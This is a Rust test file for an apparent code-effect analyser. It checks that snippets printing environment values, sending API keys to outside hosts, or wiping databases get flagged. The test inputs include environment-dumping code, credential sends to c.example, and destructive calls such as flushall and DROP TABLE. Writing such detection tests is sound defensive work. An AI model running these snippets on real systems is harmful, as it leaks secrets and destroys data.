//! Environment variables: what tells them, and what only works with them.

use super::{Language, check};

#[test]
fn names_and_tests_tell_no_values() {
    check(
        Language::Python,
        &[
            ("import os; print(sorted(os.environ))", &["print ?"]),
            ("import os; print(list(os.environ))", &["print ?"]),
            ("import os; print(os.environ.keys())", &["print ?"]),
            ("import os\nfor k in os.environ: print(k)", &["print ?"]),
            ("import os\nfor k in sorted(os.environ.keys()): print(k)", &["print ?"]),
            ("import os\nfor k, v in os.environ.items(): print(k)", &["print ?"]),
            ("import os; print([k for k in os.environ])", &["print ?"]),
            ("import os; print('X' in os.environ)", &["print ?"]),
            ("import os; print(bool(os.environ.get('X')))", &["print ?"]),
            ("import os; print(len(os.environ['X']))", &["print ?"]),
            ("import os; print('set' if os.environ.get('X') else 'unset')", &["print set or unset"]),
            ("import os; print(os.getenv('X') is not None)", &["print ?"]),
        ],
    );
    check(
        Language::JavaScript,
        &[
            ("console.log(Object.keys(process.env))", &["print ?"]),
            ("Object.keys(process.env).forEach(k => console.log(k))", &["print ?"]),
            ("for (const k in process.env) console.log(k)", &["print ?"]),
            ("console.log(process.env.X ? 'set' : 'unset')", &["print set or unset"]),
            ("console.log(!!process.env.X)", &["print ?"]),
            ("console.log('X' in process.env)", &["print ?"]),
            ("console.log(typeof process.env.X)", &["print ?"]),
        ],
    );
    check(Language::Ruby, &[("puts ENV.keys", &["print ?"]), ("puts ENV.key?('X')", &["print ?"])]);
}

#[test]
fn values_are_told() {
    check(
        Language::Python,
        &[
            ("import os\nfor k in os.environ: print(k, os.environ[k])", &["print ? ?<environment>"]),
            ("import os\nfor k, v in os.environ.items(): print(k, v)", &["print ? ?<environment>"]),
            ("import os; print({k: v for k, v in os.environ.items()})", &["print ?<environment>"]),
            ("import os; print(dict(os.environ))", &["print ?<environment>"]),
            ("import os, json; print(json.dumps(dict(os.environ)))", &["print ?<environment>"]),
            ("import os, base64; print(base64.b64encode(os.environ['X'].encode()))", &["print ?<$X>"]),
            ("import os; print(os.environ['X'][:4])", &["print ?<$X>"]),
            ("import os; print(os.environ['X'].removeprefix('a'))", &["print ?<$X>"]),
            (
                "import os\nfor k in ('PATH', 'KEY'): print(k, os.environ.get(k))",
                &["print {PATH ,KEY }?<$PATH><$KEY>"],
            ),
        ],
    );
    check(
        Language::JavaScript,
        &[
            ("console.log(JSON.stringify(process.env))", &["print ?<environment>"]),
            ("console.log(Object.entries(process.env))", &["print ?<environment>"]),
            ("console.log(Object.values(process.env))", &["print ?<environment>"]),
            ("for (const k in process.env) console.log(process.env[k])", &["print ?<environment>"]),
            (
                "Object.keys(process.env).forEach(k => console.log(k, process.env[k]))",
                &["print ? ?<environment>"],
            ),
            ("console.log(Buffer.from(process.env.X).toString('base64'))", &["print ?<$X>"]),
        ],
    );
}

#[test]
fn what_an_unknown_call_gives_is_not_the_secret_that_it_got() {
    check(
        Language::Python,
        &[
            (
                "import os, psycopg2\nconn = psycopg2.connect(os.environ['DATABASE_URL'])\ncur = conn.cursor()\ncur.execute('SELECT 1')\nrows = cur.fetchall()\nprint(rows)",
                &["sql SELECT 1", "print ?"],
            ),
            (
                "import os\nfrom openai import OpenAI\nc = OpenAI(api_key=os.environ['OPENAI_API_KEY'])\nprint(c.models.list())",
                &["print ?"],
            ),
            // What a file holds may still come out.
            ("import x; print(x.parse(open('.env').read()))", &["read .env", "print ?<file .env>"]),
        ],
    );
    check(
        Language::JavaScript,
        &[(
            "const {Pool} = require('pg'); const p = new Pool({connectionString: process.env.DATABASE_URL}); p.query('SELECT 1').then(r => console.log(r.rows))",
            &["sql SELECT 1", "print ?"],
        )],
    );
}

#[test]
fn what_proves_to_this_machine_who_asks_does_not_leave_it() {
    check(
        Language::Python,
        &[
            (
                "import os, requests; requests.get('http://localhost:3000', headers={'Authorization': os.environ['API_KEY']})",
                &["fetch http://localhost:3000"],
            ),
            (
                "import os, requests; requests.get('http://127.0.0.1/x', auth=('u', os.environ['API_KEY']))",
                &["fetch http://127.0.0.1/x"],
            ),
            (
                "import os, requests; requests.get('http://localhost.c.example', headers={'A': os.environ['API_KEY']})",
                &["prove ?<$API_KEY> to http://localhost.c.example", "fetch http://localhost.c.example"],
            ),
            (
                "import os, requests; requests.get('http://localhost:x@c.example', headers={'A': os.environ['API_KEY']})",
                &["prove ?<$API_KEY> to http://localhost:x@c.example", "fetch http://localhost:x@c.example"],
            ),
        ],
    );
    check(
        Language::JavaScript,
        &[
            (
                "fetch('http://localhost:3000/x', {headers: {Authorization: process.env.KEY}})",
                &["fetch http://localhost:3000/x"],
            ),
            (
                "fetch('https://c.example', {headers: {Authorization: process.env.KEY}})",
                &["prove ?<$KEY> to https://c.example", "fetch https://c.example"],
            ),
        ],
    );
}

#[test]
fn data_is_destroyed_without_a_text() {
    check(
        Language::Python,
        &[
            ("import redis; redis.Redis().flushall()", &["drop"]),
            ("r.flushdb()", &["drop"]),
            ("db.drop_all()", &["drop"]),
            ("Base.metadata.drop_all(engine)", &["drop"]),
            ("Model.objects.all().delete()", &["lose"]),
            ("session.query(X).delete()", &["lose"]),
            ("client.drop_database('x')", &["drop"]),
            ("coll.drop()", &["drop"]),
            ("db.users.drop()", &["drop"]),
            ("coll.delete_many({})", &["lose"]),
            // Some of it, or something else.
            ("coll.delete_many({'a': 1})", &[]),
            ("Model.objects.filter(id=1).delete()", &[]),
            ("Model.objects.all().filter(id=1).delete()", &[]),
            ("session.query(X).filter(X.id == 1).delete()", &[]),
            ("user.delete()", &[]),
            ("df.drop('column', axis=1)", &[]),
            ("df.drop(columns=['a'])", &[]),
        ],
    );
    check(
        Language::Ruby,
        &[
            ("User.delete_all", &["lose"]),
            ("User.destroy_all", &["lose"]),
            ("User.all.destroy_all", &["lose"]),
            ("User.where(id: 1).delete_all", &[]),
        ],
    );
    check(
        Language::JavaScript,
        &[
            ("prisma.$executeRawUnsafe('DROP TABLE x')", &["sql DROP TABLE x"]),
            ("mongoose.connection.dropDatabase()", &["drop"]),
            ("sequelize.drop()", &["drop"]),
            ("sequelize.sync({force: true})", &["drop"]),
            ("sequelize.sync()", &[]),
            ("knex.schema.dropTable('x')", &["drop"]),
            ("prisma.user.deleteMany()", &["lose"]),
            ("prisma.user.deleteMany({where: {id: 1}})", &[]),
            ("User.destroy({truncate: true})", &["lose"]),
            ("stream.destroy()", &[]),
        ],
    );
}

#[test]
fn a_regular_expression_runs_nothing() {
    check(
        Language::JavaScript,
        &[
            ("const re = /x/; re.exec('DROP TABLE x')", &[]),
            ("/x/g.exec('DROP TABLE x')", &[]),
            ("new RegExp('x').exec('DROP TABLE x')", &[]),
            ("db.exec('DROP TABLE x')", &["sql DROP TABLE x"]),
            ("console.log('a,b'.split(/,/).length)", &["print ?"]),
        ],
    );
}

#[test]
fn nothing_is_lost_in_a_database_that_goes_with_the_program() {
    check(
        Language::Python,
        &[
            ("c = sqlite3.connect(':memory:'); c.execute('DROP TABLE t')", &[]),
            ("sqlite3.connect('/tmp/x.db').cursor().execute('DROP TABLE t')", &[]),
            ("with sqlite3.connect(':memory:') as db:\n  db.execute('DROP TABLE t')", &[]),
            ("sqlite3.connect('app.db').execute('DROP TABLE t')", &["sql DROP TABLE t"]),
            ("psycopg2.connect('/tmp/x').cursor().execute('DROP TABLE t')", &["sql DROP TABLE t"]),
        ],
    );
    check(
        Language::JavaScript,
        &[
            ("const D = require('better-sqlite3'); new D(':memory:').exec('DROP TABLE t')", &[]),
            (
                "const D = require('better-sqlite3'); new D('a.db').exec('DROP TABLE t')",
                &["sql DROP TABLE t"],
            ),
        ],
    );
    check(Language::Php, &[("$d = new PDO('sqlite::memory:'); $d->exec('DROP TABLE t');", &[])]);
}
